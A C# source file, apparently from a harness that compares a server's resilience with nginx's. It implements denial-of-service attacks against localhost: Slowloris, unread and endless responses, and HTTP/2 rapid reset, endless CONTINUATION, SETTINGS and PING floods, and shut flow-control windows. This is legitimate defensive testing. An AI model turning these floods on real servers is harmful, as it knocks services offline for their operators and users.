using System.Net.Sockets;
using static Microcosm.SideBySide.Nginx.Attacker;

namespace Microcosm.SideBySide.Nginx;

/// <summary>What is done to a server for ten seconds each.</summary>
internal static class Attacks
{
    private const int BatchFrames = 500;

    /// <summary>By name; each ends when it is told to.</summary>
    public static IReadOnlyList<(string Name, Func<int, CancellationToken, Task> RunAsync)> All { get; } =
    [
        ("2,000 heads, a byte a second", SlowlorisAsync),
        ("200 clients that read nothing of 100 MiB from upstream, in files", (p, e) => UnreadAsync(p, "/filed/100m.txt", e)),
        ("the same without files", (p, e) => UnreadAsync(p, "/unfiled/100m.txt", e)),
        ("50 bodies from upstream that never end", (p, e) => EndlessAsync(p, "/endless/", e)),
        ("50 heads from upstream that never end", (p, e) => EndlessAsync(p, "/headless/", e)),
        ("HTTP/2: streams opened and reset", (p, e) => FloodAsync(p, i =>
            [.. Get(Stream(i), "/return"), .. Frame(3, 0, Stream(i), [0, 0, 0, 8])], e)),
        ("HTTP/2: a block that never ends", (p, e) => FloodAsync(p, i =>
            i == 0 ? Get(1, "/return", flags: 1) : Frame(9, 0, 1, "\0\x01a\x01b"u8), e)),
        ("HTTP/2: SETTINGS", (p, e) => FloodAsync(p, _ => Frame(4, 0, 0, [0, 4, 0, 1, 0, 0]), e)),
        ("HTTP/2: PING", (p, e) => FloodAsync(p, _ => Frame(6, 0, 0, "12345678"u8), e)),
        ("HTTP/2: PING, answers unread", UnreadPingsAsync),
        ("HTTP/2: 10 x 100 shut windows, files of 1 MiB", (p, e) => ShutAsync(p, "/1m.txt", e)),
        ("HTTP/2: 10 x 100 shut windows, 1 MiB from upstream", (p, e) => ShutAsync(p, "/filed/1m.txt", e)),
        ("HTTP/2: the same without files", (p, e) => ShutAsync(p, "/unfiled/1m.txt", e)),
    ];

    private static int Stream(int ordinal) => ordinal * 2 + 1;

    private static async Task SlowlorisAsync(int port, CancellationToken end)
    {
        var all = await ConnectAsync(port, 2000, 0, end);
        try
        {
            await Task.WhenAll(all.Select(a => a.SendAsync("GET / HTTP/1.1\r\nHost: localhost\r\nX: ", end)));
            while (!end.IsCancellationRequested)
            {
                foreach (var attacker in all)
                    await TryAsync(() => attacker.SendAsync("a", end));
                await Task.Delay(1000, end);
            }
        }
        finally
        {
            all.ForEach(a => a.Dispose());
        }
    }

    private static async Task UnreadAsync(int port, string path, CancellationToken end)
    {
        var all = await ConnectAsync(port, 200, 4096, end);
        try
        {
            foreach (var attacker in all)
                await attacker.SendAsync($"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n", end);
            await Task.Delay(Timeout.Infinite, end);
        }
        finally
        {
            all.ForEach(a => a.Dispose());
        }
    }

    private static Task EndlessAsync(int port, string path, CancellationToken end) =>
        Task.WhenAll(Enumerable.Range(0, 50).Select(async _ =>
        {
            while (!end.IsCancellationRequested)
            {
                await TryAsync(async () =>
                {
                    using var attacker = await ConnectAsync(port);
                    await attacker.SendAsync($"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", end);
                    await attacker.DrainAsync(end);
                });
            }
        }));

    // Ten connections, each as fast as the server takes it.
    private static Task FloodAsync(int port, Func<int, byte[]> frames, CancellationToken end) =>
        Task.WhenAll(Enumerable.Range(0, 10).Select(_ => RepeatAsync(port + Configurations.Http2Offset,
            b => [.. Enumerable.Range(b * BatchFrames, BatchFrames).SelectMany(frames)], end)));

    private static async Task UnreadPingsAsync(int port, CancellationToken end)
    {
        var batch = Enumerable.Range(0, BatchFrames).SelectMany(_ => Frame(6, 0, 0, "12345678"u8)).ToArray();
        await Task.WhenAll(Enumerable.Range(0, 10).Select(async _ =>
        {
            while (!end.IsCancellationRequested)
            {
                await TryAsync(async () =>
                {
                    using var attacker = await ConnectAsync(port + Configurations.Http2Offset, 4096);
                    await attacker.SendPrefaceAsync(65535, end);
                    while (true)
                        await attacker.SendAsync(batch, end);
                });
            }
        }));
    }

    private static async Task ShutAsync(int port, string path, CancellationToken end)
    {
        var all = await ConnectAsync(port + Configurations.Http2Offset, 10, 0, end);
        try
        {
            foreach (var attacker in all)
            {
                await attacker.SendPrefaceAsync(0, end);
                foreach (var i in Enumerable.Range(0, 100))
                    await attacker.SendAsync(Get(Stream(i), path), end);
            }
            await Task.WhenAll(all.Select(a => TryAsync(() => a.DrainAsync(end))));
            await Task.Delay(Timeout.Infinite, end);
        }
        finally
        {
            all.ForEach(a => a.Dispose());
        }
    }

    // That the server defends itself is what is hoped for.
    private static async Task TryAsync(Func<Task> attack)
    {
        try
        {
            await attack();
        }
        catch (SocketException)
        {
        }
    }
}
